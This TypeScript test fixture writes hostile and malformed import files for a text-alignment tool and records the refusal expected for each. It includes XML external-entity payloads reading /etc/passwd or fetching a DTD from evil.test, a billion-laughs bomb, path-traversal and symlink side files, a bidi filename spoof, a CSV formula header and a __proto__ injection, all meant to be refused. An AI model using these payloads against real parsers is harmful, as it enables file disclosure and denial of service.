/**
 * A corpus of hostile and malformed import files, written to a folder at test time (some are megabytes, and a few
 * are not regular files at all): every format (plain, Markdown, TEI, TMX, CSV, work JSON), every encoding case
 * (invalid UTF-8, UTF-16 without BOM, legacy encodings, a wrong label, UTF-32, binary), the limits (bytes, lines,
 * segments, nesting depth, entities) and side files that are missing, outside the folder, links, pipes or too big.
 * Each file says how the import must refuse it: the line (when one applies) and a pattern of the reason.
 */
import { spawnSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import iconv from "iconv-lite";
import { exportWorkJson } from "../lib/formats/json-export";
import { sampleWork } from "../lib/formats/fixtures/sample-work";
import type { ImportFormat, SupportedEncoding } from "../lib/formats";

export interface HostileFile {
  /** The file's name in the corpus folder (what the import must name). */
  name: string;
  /** The file the refusal must name, when not this one (a side file's own error names the side file). */
  names?: string;
  /** The line the refusal must name, when one applies (null: the message names no line). */
  line: number | null;
  reason: RegExp;
  format?: ImportFormat;
  encoding?: SupportedEncoding;
  language?: string;
}

/** The work every file is imported into (and the metadata given on the command line). */
export const HOSTILE_WORK = "hostile";

const FRONT = (extra = "") =>
  `---\nwork: ${HOSTILE_WORK}\nedition: en\nlanguage: en\ntitle: Hostile\nprovenance: imported\noriginal: false\n${extra}---\n\n`;
const TEI = (body: string, header = "") =>
  `<?xml version="1.0" encoding="UTF-8"?>\n${header}<TEI xmlns="http://www.tei-c.org/ns/1.0" xml:lang="en"><teiHeader><fileDesc><titleStmt><title>T</title></titleStmt></fileDesc></teiHeader>\n<text><body>\n${body}\n</body></text></TEI>\n`;
const TMX = (body: string, header = '<header srclang="en" datatype="plaintext" segtype="sentence" adminlang="en" o-tmf="x" creationtool="x" creationtoolversion="1"/>') =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4">\n${header}\n${body}\n</tmx>\n`;
const TU = (en: string, fr: string) => `<tu><tuv xml:lang="en"><seg>${en}</seg></tuv><tuv xml:lang="fr"><seg>${fr}</seg></tuv></tu>`;

const FRENCH = "Selon Vychinski, le « Centre uni » n'avait aucun programme. Il n'était mû que par la soif de pouvoir. Déjà réglé.\n";
const RUSSIAN = "По словам Вышинского, «Объединённый центр» не имел никакой программы. Им двигала лишь «голая жажда власти».\n";

type Content = string | Buffer;
interface Entry extends HostileFile {
  /** The file's bytes, or how to make it when it is not an ordinary file. */
  content: Content | { fifo: true } | { folder: true } | { symlinkTo: string } | { sparse: number };
  /** Side files written next to it. */
  sides?: Record<string, Content | { fifo: true } | { folder: true } | { symlinkTo: string } | { sparse: number }>;
}

/** A work JSON export with one change made to it. */
function workJson(change: (work: ReturnType<typeof structuredClone<typeof sampleWork>>) => void): string {
  const work = structuredClone(sampleWork);
  work.work.slug = HOSTILE_WORK;
  change(work);
  return exportWorkJson(work);
}

const manyLines = (count: number, line: (i: number) => string) => Array.from({ length: count }, (_, i) => line(i)).join("\n");
const invalidUtf8 = (prefix: string) => Buffer.concat([Buffer.from(prefix), Buffer.from([0xff, 0xfe, 0x41]), Buffer.from(" tail.\n")]);
const utf16 = (text: string, encoding: "utf16le" | "utf16be") =>
  encoding === "utf16le" ? Buffer.from(text, "utf16le") : Buffer.from(Buffer.from(text, "utf16le")).swap16();
const ENCODING_GUESSED = /the encoding was guessed as [\w-]+ with \d+% confidence, which is not sure enough to import.* --encoding /;

function entries(): Entry[] {
  const plain: Entry[] = [
    { name: "no-front-matter.txt", content: "Just text.\n", line: 1, reason: /must start with a front-matter line/, format: "plain" },
    { name: "unclosed-front-matter.txt", content: "---\nwork: hostile\nedition: en\n\nText.\n", line: 5, reason: /front matter lines are `key: value`, found “Text.”/ },
    { name: "unknown-key.txt", content: FRONT("colour: red\n"), line: 8, reason: /unknown front-matter key “colour”/ },
    { name: "duplicate-key.txt", content: FRONT("title: Again\n"), line: 8, reason: /front-matter key “title” appears twice/ },
    { name: "missing-title.txt", content: FRONT().replace("title: Hostile\n", ""), line: 1, reason: /“title” is required/ },
    { name: "bad-original.txt", content: FRONT().replace("original: false", "original: maybe"), line: 7, reason: /“original” must be true or false/ },
    { name: "bad-year.txt", content: FRONT("year: 19xx\n"), line: 8, reason: /“year” must be four digits/ },
    { name: "bad-work-slug.txt", content: FRONT().replace(`work: ${HOSTILE_WORK}`, "work: Bad Slug"), line: 2, reason: /“work”: use a–z, 0–9 and hyphens/ },
    { name: "bad-provenance.txt", content: FRONT().replace("provenance: imported", "provenance: stolen"), line: 6, reason: /“provenance”/ },
    { name: "language-not-bcp47.txt", content: FRONT().replace("language: en", "language: en-12"), line: 4, reason: /“language”: a BCP 47 language code/ },
    { name: "title-bidi-override.txt", content: FRONT().replace("title: Hostile", "title: Hostile\u202Etxt.exe"), line: 5, reason: /“title”: holds a bidirectional control character \(U\+202E\)/ },
    { name: "one-long-paragraph.txt", content: `${FRONT()}${"Word ".repeat(200_001)}\n`, line: 10, reason: /this paragraph is 1,000,00\d characters long; the import limit is 1,000,000 characters per paragraph/ },
    { name: "no-body.txt", content: FRONT(), line: 8, reason: /the edition has no text after the front matter/ },
    { name: "two-line-heading.txt", content: `${FRONT()}# A heading\ncontinued here\n`, line: 11, reason: /a heading must fit on one line/ },
    { name: "broken-quotation.txt", content: `${FRONT()}> quoted\nnot quoted\n`, line: 11, reason: /every line of a block quotation must start with `>`/ },
    { name: "unknown-attribute.txt", content: `${FRONT()}{.shout} Text.\n`, line: 10, reason: /unknown block attribute “.shout”/ },
    { name: "misplaced-attribute.txt", content: `${FRONT()}Some text\n{#p2} more text.\n`, line: 11, reason: /block attributes must come first/ },
    { name: "attributes-without-text.txt", content: `${FRONT()}{#p1}\n`, line: 10, reason: /the block has attributes but no text/ },
    { name: "nul-byte.txt", content: `${FRONT()}Text\u0000more.\n`, line: null, reason: /not a text file|binary/ },
    { name: "apparatus-missing.txt", content: `${FRONT("apparatus: nowhere.txt\n")}Text.\n`, line: 8, reason: /front matter “apparatus”: file nowhere\.txt not found/ },
    { name: "apparatus-outside.txt", content: `${FRONT("apparatus: ../outside.txt\n")}Text.\n`, line: 8, reason: /outside the edition's folder/ },
    { name: "apparatus-absolute.txt", content: `${FRONT("apparatus: /etc/passwd\n")}Text.\n`, line: 8, reason: /outside the edition's folder/ },
    { name: "apparatus-device.txt", content: `${FRONT("apparatus: /dev/zero\n")}Text.\n`, line: 8, reason: /outside the edition's folder/ },
    {
      name: "apparatus-symlink.txt",
      content: `${FRONT("apparatus: apparatus-link.txt\n")}Text.\n`,
      sides: { "apparatus-link.txt": { symlinkTo: "/etc/hostname" } },
      line: 8,
      reason: /must not be a symbolic link/,
    },
    {
      name: "apparatus-fifo.txt",
      content: `${FRONT("apparatus: apparatus.pipe\n")}Text.\n`,
      sides: { "apparatus.pipe": { fifo: true } },
      line: 8,
      reason: /apparatus\.pipe: this is a named pipe, not a regular file/,
    },
    {
      name: "apparatus-folder.txt",
      content: `${FRONT("apparatus: apparatus-dir\n")}Text.\n`,
      sides: { "apparatus-dir": { folder: true } },
      line: 8,
      reason: /apparatus-dir: this is a folder, not a regular file/,
    },
    {
      name: "apparatus-huge.txt",
      content: `${FRONT("apparatus: huge.apparatus.txt\n")}Text.\n`,
      sides: { "huge.apparatus.txt": { sparse: 21 * 1024 * 1024 } },
      line: 8,
      reason: /huge\.apparatus\.txt: the file is 21\.0 MB; the import limit is 20\.0 MB/,
    },
    {
      name: "apparatus-other-edition.txt",
      content: `${FRONT("apparatus: other.apparatus.txt\n")}Text.\n`,
      sides: { "other.apparatus.txt": `${FRONT().replace("edition: en", "edition: de")}Note.\n` },
      names: "other.apparatus.txt",
      line: 1,
      reason: /the apparatus belongs to hostile\/de, not hostile\/en/,
    },
    {
      name: "apparatus-too-many-segments.txt",
      content: `${FRONT("apparatus: many.apparatus.txt\n")}${manyLines(60_000, (i) => `Sentence ${i}.\n`)}\n`,
      sides: { "many.apparatus.txt": `${FRONT()}${manyLines(60_000, (i) => `Note ${i}.\n`)}\n` },
      names: "many.apparatus.txt",
      line: 80_010,
      reason: /more than 100,000 segments/,
    },
    {
      name: "corrections-bad-header.txt",
      content: `${FRONT("corrections: bad.corrections.tsv\n")}Text.\n`,
      sides: { "bad.corrections.tsv": "one\ttwo\n" },
      names: "bad.corrections.tsv",
      line: 1,
      reason: /the first line must be the header/,
    },
    {
      name: "corrections-bad-fields.txt",
      content: `${FRONT("corrections: fields.corrections.tsv\n")}Text.\n`,
      sides: { "fields.corrections.tsv": "line\tbefore\tafter\treason\n3\tonly two\n" },
      names: "fields.corrections.tsv",
      line: 2,
      reason: /a correction has 4 tab-separated fields/,
    },
    {
      name: "corrections-bad-line.txt",
      content: `${FRONT("corrections: line.corrections.tsv\n")}Text.\n`,
      sides: { "line.corrections.tsv": "line\tbefore\tafter\treason\nx\ta\tb\tc\n" },
      names: "line.corrections.tsv",
      line: 2,
      reason: /the source line must be a number/,
    },
    {
      name: "corrections-invalid-utf8.txt",
      content: `${FRONT("corrections: bytes.corrections.tsv\n")}Text.\n`,
      sides: { "bytes.corrections.tsv": invalidUtf8("line\tbefore\tafter\treason\n") },
      names: "bytes.corrections.tsv",
      line: null,
      reason: /the file is not valid UTF-8/,
    },
    { name: "150000-paragraphs.txt", content: `${FRONT()}${manyLines(150_000, (i) => `Sentence number ${i}.\n`)}`, line: 200_010, reason: /more than 100,000 segments; the import limit is 100,000/ },
    { name: "150000-line-paragraph.txt", content: `${FRONT()}${manyLines(150_000, (i) => `Sentence number ${i}.`)}`, line: 10, reason: /this paragraph is 3,488,889 characters long; the import limit is 1,000,000/ },
    { name: "600000-lines.txt", content: `${FRONT()}Text.${"\n".repeat(600_000)}`, line: 500_001, reason: /more than 500,000 lines/ },
    { name: "21-megabytes.txt", content: { sparse: 21 * 1024 * 1024 }, line: null, reason: /the file is 21\.0 MB; the import limit is 20\.0 MB/ },
    { name: "a-fifo.txt", content: { fifo: true }, line: null, reason: /this is a named pipe, not a regular file/ },
    { name: "a-folder.txt", content: { folder: true }, line: null, reason: /this is a folder, not a regular file/ },
    { name: "adversarial-initials.txt", content: `${FRONT().replace("title: Hostile\n", "")}${"A. ".repeat(300_000)}\n`, line: 1, reason: /“title” is required/ },
  ];

  const encodings: Entry[] = [
    { name: "invalid-utf8.txt", content: invalidUtf8(`${FRONT()}Text `), line: 10, reason: /not UTF-8[^:]*: line 10 has a byte \(0xFF\)/ },
    { name: "invalid-utf8.md", content: invalidUtf8("# Title\n\nSome text "), line: 3, reason: /not UTF-8[^:]*: line 3 has a byte \(0xFF\)/ },
    { name: "cp1251.txt", content: Buffer.concat([Buffer.from(FRONT().replace("language: en", "language: ru")), iconv.encode(RUSSIAN, "windows-1251")]), line: 10, reason: ENCODING_GUESSED },
    { name: "cp1251.md", content: iconv.encode(`# Жажда власти\n\n${RUSSIAN}`, "windows-1251"), line: 1, reason: ENCODING_GUESSED },
    { name: "koi8r.md", content: iconv.encode(`# Жажда власти\n\n${RUSSIAN.replace(/[«»]/g, '"')}`, "koi8-r"), line: 1, reason: ENCODING_GUESSED },
    { name: "windows-1252.md", content: iconv.encode(`# Titre\n\n${FRENCH}`, "windows-1252"), line: 3, reason: ENCODING_GUESSED },
    { name: "latin-1.csv", content: iconv.encode(`en,fr\nOne.,${FRENCH.trim()}\n`, "latin1"), line: 2, reason: ENCODING_GUESSED },
    { name: "cp1251.csv", content: iconv.encode(`en,ru\nOne.,${RUSSIAN.trim()}\n`, "windows-1251"), line: 2, reason: ENCODING_GUESSED },
    { name: "utf16le-no-bom.md", content: utf16(`# Title\n\n${FRENCH}`, "utf16le"), line: null, reason: /guessed as utf-16le with 80% confidence.* --encoding utf-16le/ },
    { name: "utf16be-no-bom.md", content: utf16(`# Title\n\n${FRENCH}`, "utf16be"), line: null, reason: /guessed as utf-16be with 80% confidence/ },
    { name: "utf16le-no-bom.txt", content: utf16(`${FRENCH}`, "utf16le"), line: null, reason: /guessed as utf-16le/ },
    { name: "utf16le-no-bom.xml", content: utf16(TEI("<p>Text.</p>"), "utf16le"), line: null, reason: /guessed as utf-16le/ },
    { name: "utf16le-no-bom.json", content: utf16(workJson(() => {}), "utf16le"), line: null, reason: /guessed as utf-16le/ },
    { name: "cp1251-labelled-utf8.xml", content: iconv.encode(TEI(`<p>${RUSSIAN}</p>`), "windows-1251"), line: 4, reason: /the XML declaration says the file is UTF-8, but it is not/ },
    { name: "cp1251-labelled-utf8.tmx", content: iconv.encode(TMX(`<body>${TU("One.", RUSSIAN)}</body>`), "windows-1251"), line: 4, reason: /the XML declaration says the file is UTF-8/ },
    { name: "bom-then-cp1251.md", content: Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), iconv.encode(RUSSIAN, "windows-1251")]), line: null, reason: /starts with a UTF-8 byte order mark but is not valid UTF-8/ },
    { name: "utf32.md", content: Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), Buffer.from("T\0\0\0", "latin1")]), line: null, reason: /UTF-32, which is not supported/ },
    { name: "greek-iso-8859-7.md", content: iconv.encode("Η δίψα για εξουσία. Σύμφωνα με τον Βυσίνσκι, το «Ενωμένο Κέντρο» δεν είχε κανένα πρόγραμμα.\n".repeat(3), "iso-8859-7"), line: 1, reason: /looks most like ISO-8859-7 \(el\), which is not supported/ },
    { name: "declared-utf8-invalid.md", content: invalidUtf8("# Title\n\n"), encoding: "utf-8", line: null, reason: /not valid UTF-8/ },
    { name: "declared-utf16-odd.md", content: Buffer.from("abc"), encoding: "utf-16le", line: null, reason: /odd number of bytes/ },
    { name: "empty.md", content: "", line: null, reason: /the file is empty/ },
    { name: "blank.md", content: " \n\t\n ", line: null, reason: /holds only white space/ },
    { name: "binary.pdf", content: Buffer.concat([Buffer.from("%PDF-1.7\n"), Buffer.alloc(64), Buffer.from("stream")]), line: null, reason: /this is not a text file/ },
    { name: "control-characters.md", content: `Text ${"\u0001\u0002\u0003".repeat(20)} more.\n`, line: null, reason: /this is not a text file \(\d+ control characters\)/ },
  ];

  const markdown: Entry[] = [
    { name: "only-breaks.md", content: "***\n\n---\n\n___\n", line: 1, reason: /the file has no text/ },
    { name: "unclosed-front-matter.md", content: "---\nwork: hostile\n\n# Title\n", line: 1, reason: /never closed/ },
    { name: "unknown-front-matter-key.md", content: "---\ncolour: red\n---\n\n# T\n", line: 2, reason: /unknown front matter key “colour”/ },
    { name: "front-matter-not-key-value.md", content: "---\njust words\n---\n\n# T\n", line: 2, reason: /front matter line is not `key: value`/ },
    { name: "bad-year.md", content: "---\nyear: 19x4\n---\n\n# T\n", line: 2, reason: /year must have four digits/ },
    { name: "language-contradiction.md", content: "---\nlanguage: fr\n---\n\n# Titre\n\nTexte.\n", line: 2, reason: /“fr”.*contradicts|contradicts.*“fr”|language/ },
    { name: "unknown-attribute.md", content: "# Title\n\n{.shout} Text.\n", line: 3, reason: /unknown block attribute “.shout”/ },
    { name: "150000-headings.md", content: manyLines(150_000, (i) => `# Heading ${i}`), line: 100_001, reason: /more than 100,000 segments/ },
    { name: "150000-line-paragraph.md", content: manyLines(150_000, (i) => `Sentence number ${i}.`), line: 1, reason: /this paragraph is 3,488,889 characters long; the import limit is 1,000,000/ },
    { name: "600000-lines.md", content: `# T\n${"\n".repeat(600_000)}`, line: 500_001, reason: /more than 500,000 lines/ },
    { name: "one-long-line.md", content: `# T\n\n${"Word. ".repeat(170_000)}\n`, line: 3, reason: /characters per paragraph — separate the text into paragraphs/ },
    { name: "adversarial-images.md", content: "---\nwork: other-work\n---\n\n" + "![".repeat(500_000), line: null, reason: /belongs to the work “other-work”/ },
    { name: "adversarial-emphasis.md", content: "---\nwork: other-work\n---\n\n" + "**a ".repeat(250_000), line: null, reason: /belongs to the work “other-work”/ },
    { name: "adversarial-heading-spaces.md", content: `---\nwork: other-work\n---\n\n# a${" ".repeat(999_990)}b\n`, line: null, reason: /belongs to the work “other-work”/ },
    { name: "adversarial-quote-markers.md", content: `---\nwork: other-work\n---\n\n${">".repeat(1_000_000)} a\n`, line: null, reason: /belongs to the work “other-work”/ },
    { name: "adversarial-note-refs.md", content: "---\nwork: other-work\n---\n\n" + "[^a".repeat(300_000), line: null, reason: /belongs to the work “other-work”/ },
    { name: "adversarial-joined-words.md", content: "---\nwork: other-work\n---\n\n" + "aaB".repeat(300_000), line: null, reason: /belongs to the work “other-work”/ },
  ];

  const deep = (depth: number) => TEI(`${"<div>".repeat(depth)}<p>x</p>${"</div>".repeat(depth)}`);
  const tei: Entry[] = [
    { name: "malformed.xml", content: TEI("<p>Unclosed <hi>emphasis</p>"), line: 4, reason: /malformed XML/ },
    { name: "deep-10000.xml", content: deep(10_000), line: 4, reason: /nested more than 100 deep/ },
    { name: "deep-101.xml", content: deep(101), line: 4, reason: /nested more than 100 deep/ },
    { name: "long-text-run.xml", content: TEI(`<p>${"Word ".repeat(200_001)}</p>`), line: 4, reason: /a text of 1,000,00\d characters without markup; the import limit is 1,000,000/ },
    { name: "external-entity.xml", content: TEI("<p>&xxe;</p>", '<!DOCTYPE TEI [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'), line: 2, reason: /entity declarations are not allowed/ },
    { name: "external-parameter-entity.xml", content: TEI("<p>x</p>", '<!DOCTYPE TEI [<!ENTITY % remote SYSTEM "http://evil.test/x.dtd"> %remote;]>\n'), line: 2, reason: /entity declarations are not allowed/ },
    {
      name: "billion-laughs.xml",
      content: TEI("<p>&lol9;</p>", `<!DOCTYPE TEI [<!ENTITY lol "lol">${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i || ""};`.repeat(10)}">`).join("")}]>\n`),
      line: 2,
      reason: /entity declarations are not allowed/,
    },
    { name: "undefined-entity.xml", content: TEI("<p>Hello &foo; world.</p>"), line: 4, reason: /undefined entity &foo;/ },
    { name: "undefined-entity-attribute.xml", content: TEI('<p corresp="&bar;">Text.</p>'), line: 4, reason: /undefined entity &bar;/ },
    { name: "html-entity.xml", content: TEI("<p>Non&nbsp;breaking.</p>"), line: 4, reason: /undefined entity &nbsp;/ },
    { name: "nul-reference.xml", content: TEI("<p>Text &#0; here.</p>"), line: 4, reason: /&#0; is not a character XML allows/ },
    { name: "surrogate-reference.xml", content: TEI("<p>Text &#xD800; here.</p>"), line: 4, reason: /is not a character XML allows/ },
    { name: "not-tei.xml", content: '<?xml version="1.0"?>\n<html><body><p>x</p></body></html>\n', line: null, reason: /unsupported XML document <html>/ },
    { name: "not-tei-forced.xml", content: '<?xml version="1.0"?>\n<html><body><p>x</p></body></html>\n', format: "tei", line: 2, reason: /not a TEI document: the root element is <html>/ },
    { name: "no-body.xml", content: '<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/></TEI>', line: 1, reason: /has no <text> with a <body>/ },
    { name: "empty-body.xml", content: TEI(""), line: 3, reason: /the TEI <body> holds no text/ },
    { name: "language-contradiction.xml", content: TEI("<p>Texte.</p>").replace('xml:lang="en"', 'xml:lang="fr"'), language: "ru", line: 2, reason: /contradicts/ },
    { name: "two-roots.xml", content: `${TEI("<p>x</p>")}<TEI/>`, line: 6, reason: /exactly one root element/ },
    { name: "unclosed-comment.xml", content: TEI("<!-- never closed <p>x</p>"), line: 6, reason: /malformed XML: the file ends inside <TEI>, <text>, <body>/ },
    { name: "unclosed-cdata.xml", content: TEI("<p><![CDATA[ never closed </p>"), line: 6, reason: /malformed XML: the file ends inside <TEI>, <text>, <body>, <p>/ },
    { name: "lt-in-attribute.xml", content: TEI('<p corresp="a<b">x</p>'), line: 4, reason: /malformed XML: “<” is not allowed in an attribute value/ },
    { name: "duplicate-xml-id.xml", content: TEI('<p><s xml:id="s1">One.</s><s xml:id="s1">Two.</s></p>'), line: 4, reason: /duplicate xml:id “s1”/ },
    { name: "entity-in-doctype-then-use.xml", content: TEI("<p>&ent;</p>", '<!DOCTYPE TEI [<!ENTITY ent "text">]>\n'), line: 2, reason: /entity declarations are not allowed/ },
    { name: "adversarial-entities.xml", content: TEI(`<p>${"a &amp; ".repeat(120_000)}</p>`), language: "ru", line: 2, reason: /contradicts/ },
  ];

  const tmx: Entry[] = [
    { name: "empty-body.tmx", content: TMX("<body></body>"), line: 4, reason: /the TMX <body> holds no translation unit/ },
    { name: "self-closed-body.tmx", content: TMX("<body/>"), line: 4, reason: /the TMX <body> holds no translation unit/ },
    { name: "no-body.tmx", content: TMX(""), line: 2, reason: /the TMX document has no <body>/ },
    { name: "tuv-without-lang.tmx", content: TMX("<body><tu><tuv><seg>x</seg></tuv></tu></body>"), line: 4, reason: /<tuv> has no xml:lang attribute/ },
    { name: "tuv-without-seg.tmx", content: TMX('<body><tu><tuv xml:lang="en"></tuv></tu></body>'), line: 4, reason: /<tuv> has no <seg>/ },
    { name: "not-tmx.tmx", content: '<?xml version="1.0"?>\n<tmy><body/></tmy>\n', format: "tmx", line: 2, reason: /not a TMX document/ },
    { name: "malformed.tmx", content: TMX(`<body>${TU("One", "Un")}`), line: 5, reason: /malformed XML: Expected closing tag 'body'/ },
    { name: "bad-edition-meta.tmx", content: TMX(`<body>${TU("One.", "Un.")}</body>`, '<header srclang="en"><prop type="x-hexapla-edition-meta">{not json</prop></header>'), line: 3, reason: /does not hold valid JSON/ },
    {
      name: "invalid-edition-meta.tmx",
      content: TMX(`<body>${TU("One.", "Un.")}</body>`, '<header srclang="en"><prop type="x-hexapla-edition-meta">{"edition": "Not A Slug"}</prop></header>'),
      line: 3,
      reason: /is not valid edition metadata/,
    },
    {
      name: "nul-in-edition-meta.tmx",
      content: TMX(`<body>${TU("One.", "Un.")}</body>`, '<header srclang="en"><prop type="x-hexapla-edition-meta">{"edition": "en", "source": "a\\u0000b"}</prop></header>'),
      line: 3,
      reason: /is not valid edition metadata — source: holds a NUL character/,
    },
    { name: "bad-status.tmx", content: TMX('<body><tu><prop type="x-hexapla-status">perhaps</prop><tuv xml:lang="en"><seg>x</seg></tuv></tu></body>'), line: 4, reason: /row status must be automatic or confirmed/ },
    { name: "bad-confidence.tmx", content: TMX('<body><tu><prop type="x-hexapla-confidence">2</prop><tuv xml:lang="en"><seg>x</seg></tuv></tu></body>'), line: 4, reason: /row confidence must be a number from 0 to 1/ },
    { name: "deep-seg.tmx", content: TMX(`<body><tu><tuv xml:lang="en"><seg>${"<hi>".repeat(5000)}x${"</hi>".repeat(5000)}</seg></tuv></tu></body>`), line: 4, reason: /nested more than 100 deep/ },
    { name: "external-entity.tmx", content: TMX("<body/>").replace("<tmx", '<!DOCTYPE tmx [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<tmx'), line: 2, reason: /entity declarations are not allowed/ },
    { name: "undefined-entity.tmx", content: TMX(`<body>${TU("One &x;", "Un")}</body>`), line: 4, reason: /undefined entity &x;/ },
    { name: "language-changes.tmx", content: TMX('<body><tu><tuv xml:lang="en"><prop type="x-hexapla-edition">a</prop><seg>x</seg></tuv></tu><tu><tuv xml:lang="fr"><prop type="x-hexapla-edition">a</prop><seg>y</seg></tuv></tu></body>'), line: 4, reason: /edition “a” is in “en” elsewhere but this <tuv> says “fr”/ },
    { name: "empty-segments.tmx", content: TMX('<body><tu><tuv xml:lang="en"><seg> </seg></tuv></tu></body>'), line: 4, reason: /edition “en” has no text/ },
  ];

  const csv: Entry[] = [
    { name: "header-only.csv", content: "en,fr\n", line: 1, reason: /edition “en” has no text/ },
    { name: "empty-header-cell.csv", content: "en,,fr\na,b,c\n", line: 1, reason: /column 2 has no header/ },
    { name: "bad-header.csv", content: "en,French text\na,b\n", line: 1, reason: /column 2 header “French text” is not an edition slug/ },
    { name: "duplicate-column.csv", content: "en,en\na,b\n", line: 1, reason: /edition “en” appears twice/ },
    { name: "too-many-fields.csv", content: "en,fr\na,b\nc,d,e\n", line: 3, reason: /the row has 3 fields but the header has 2/ },
    { name: "unclosed-quote.csv", content: 'en,fr\n"a,b\nc,d\n', line: 3, reason: /malformed CSV: Quote Not Closed/ },
    { name: "bad-row-status.csv", content: "row_status,en,fr\nmaybe,a,b\n", line: 2, reason: /row status must be automatic or confirmed/ },
    { name: "bad-row-confidence.csv", content: "row_confidence,en,fr\nlots,a,b\n", line: 2, reason: /row confidence must be a number from 0 to 1/ },
    { name: "only-row-columns.csv", content: "row_id,row_position\n1,2\n", line: 1, reason: /the header names no edition columns/ },
    { name: "100001-segments.csv", content: `en,fr\n${manyLines(50_001, (i) => `a${i},b${i}`)}\n`, line: 50_002, reason: /more than 100,000 segments/ },
    { name: "long-cell.csv", content: `en,fr\nA.,B.\n${"Word ".repeat(200_001)},C.\n`, line: 3, reason: /this segment is 1,000,00\d characters long/ },
    { name: "600000-lines.csv", content: `en,fr\n${"a,b\n".repeat(600_000)}`, line: 500_001, reason: /more than 500,000 lines/ },
    { name: "formula-header.csv", content: "=cmd,fr\na,b\n", format: "csv", line: 1, reason: /column 1 header “=cmd” is not an edition slug/ },
  ];

  const json: Entry[] = [
    { name: "malformed.json", content: '{"format": "hexapla-work",\n  "version": 1,\n  oops }\n', line: 3, reason: /malformed JSON/ },
    { name: "not-a-work.json", content: '{"hello": "world"}\n', line: null, reason: /not a Hexapla work export/ },
    { name: "wrong-version.json", content: workJson(() => {}).replace('"version": 1', '"version": 99'), line: null, reason: /unsupported work export version 99/ },
    { name: "no-editions.json", content: '{"format": "hexapla-work", "version": 1, "work": {"slug": "hostile", "title": "H"}}\n', line: null, reason: /invalid work export/ },
    { name: "segment-in-no-row.json", content: workJson((w) => (w.rows[0].cells.ru = w.rows[0].cells.ru.slice(1))), line: null, reason: /its alignment grid does not hold/ },
    {
      name: "segments-out-of-order.json",
      content: workJson((w) => {
        const [a, b] = [w.rows[0].cells.ru, w.rows[1].cells.ru];
        [w.rows[0].cells.ru, w.rows[1].cells.ru] = [b, a];
      }),
      line: null,
      reason: /its alignment grid does not hold/,
    },
    { name: "unknown-segment.json", content: workJson((w) => w.rows[0].cells.ru.push("no-such-segment")), line: null, reason: /points at segment “no-such-segment”/ },
    { name: "segment-in-two-rows.json", content: workJson((w) => w.rows[1].cells.ru.unshift(w.rows[0].cells.ru[0])), line: null, reason: /is in two rows/ },
    { name: "duplicate-row-id.json", content: workJson((w) => (w.rows[1].id = w.rows[0].id)), line: null, reason: /two rows have id/ },
    {
      name: "empty-row.json",
      content: workJson((w) => w.rows.push({ id: "empty-row", position: 999, status: "automatic", confidence: null, cells: {} })),
      line: null,
      reason: /its alignment grid does not hold: .*empty/,
    },
    { name: "unknown-variant-row.json", content: workJson((w) => (w.variants[0].rowId = "no-such-row")), line: null, reason: /refers to unknown row “no-such-row”/ },
    { name: "deep-arrays.json", content: `{"format": "hexapla-work", "version": 1, "work": ${"[".repeat(10_000)}${"]".repeat(10_000)}}`, line: null, reason: /invalid work export/ },
    { name: "unknown-pivot.json", content: workJson((w) => (w.work.pivotEdition = "de")), line: null, reason: /the pivot edition “de” is not among the editions/ },
    { name: "nul-escape.json", content: workJson((w) => (w.editions[0].segments[0].text = "a\u0000b")), line: null, reason: /editions\.0\.segments\.0\.text: holds a NUL character/ },
    { name: "lone-surrogate.json", content: workJson((w) => (w.variants[0].note = "\udc00")), line: null, reason: /variants\.0\.note: holds half of a UTF-16 surrogate pair/ },
    { name: "proto-key.json", content: workJson(() => {}).replace('"cells": {', '"cells": {"__proto__": [],'), line: null, reason: /rows\.0\.cells\.__proto__: is not a field of this format/ },
    { name: "block-index-overflow.json", content: workJson((w) => (w.editions[0].segments.at(-1)!.blockIndex = 2 ** 31)), line: null, reason: /editions\.0\.segments\.6\.blockIndex: Too big/ },
    { name: "variant-date-not-a-date.json", content: workJson((w) => (w.variants[0].createdAt = "yesterday")), line: null, reason: /variants\.0\.createdAt: an ISO 8601 date and time/ },
    { name: "duplicate-position.json", content: workJson((w) => (w.rows[2].position = w.rows[1].position)), line: null, reason: /both have position 2/ },
    { name: "empty-segment.json", content: workJson((w) => (w.editions[1].segments[0].text = "")), line: null, reason: /editions\.1\.segments\.0\.text: a segment's text may not be empty/ },
    { name: "word-link-across-rows.json", content: workJson((w) => (w.wordLinks = [{ editionA: "ru", editionB: "en", a: "ru-s1", b: "en-s2", status: "automatic", links: "0-0", p: [0.9] }])), line: null, reason: /are not in the same row/ },
  ];
  return [...plain, ...encodings, ...markdown, ...tei, ...tmx, ...csv, ...json];
}

type Made = Entry["content"];

function make(file: string, content: Made): void {
  if (typeof content === "string" || Buffer.isBuffer(content)) fs.writeFileSync(file, content);
  else if ("fifo" in content) mkfifo(file);
  else if ("folder" in content) fs.mkdirSync(file);
  else if ("symlinkTo" in content) fs.symlinkSync(content.symlinkTo, file);
  else {
    fs.writeFileSync(file, "");
    fs.truncateSync(file, content.sparse);
  }
}

/** Node has no mkfifo: the coreutils command makes the named pipe. */
function mkfifo(file: string): void {
  if (spawnSync("mkfifo", [file]).status !== 0) throw new Error(`mkfifo ${file} failed`);
}

/** Writes the corpus into `dir` (each file with its side files) and returns what each must be refused for. */
export function writeHostileFiles(dir: string): HostileFile[] {
  return entries().map(({ content, sides, ...expected }) => {
    make(path.join(dir, expected.name), content);
    for (const [name, side] of Object.entries(sides ?? {})) make(path.join(dir, name), side);
    return expected;
  });
}
